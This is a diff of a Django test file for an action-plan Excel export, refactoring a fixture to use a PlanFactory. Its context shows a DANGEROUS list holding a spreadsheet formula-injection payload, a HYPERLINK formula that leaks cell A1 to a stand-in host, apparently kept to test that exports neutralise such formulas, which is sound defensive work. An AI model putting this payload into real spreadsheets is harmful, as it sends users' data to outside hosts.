@@ -11,8 +11,9 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from actionplan import services as plan_services
-from actionplan.models import Action, ActionPlan, Axis, Indicator, Measurement
+from actionplan.models import Action, Axis, Indicator, Measurement
 from initiatives.models import Initiative
+from tests.factories import PlanFactory
 
 DANGEROUS = [
     '=HYPERLINK("http://x.example/?leak="&A1;"clic")',
@@ -27,14 +28,7 @@ ROOT = Path(__file__).resolve().parents[2]
 
 @pytest.fixture
 def plan(db, mutuelle):
-    plan = ActionPlan.objects.create(
-        title="Plan 2026-2028",
-        assembly="AG du 18 juin 2026",
-        adopted_on=datetime.date(2026, 6, 18),
-        starts_on=datetime.date(2026, 7, 1),
-        ends_on=datetime.date(2028, 6, 30),
-        is_current=True,
-    )
+    plan = PlanFactory()
     axis = Axis.objects.create(plan=plan, number=1, title="Santé")
     actions = [
         Action.objects.create(plan=plan, axis=axis, code=f"1.{n}", title=title)
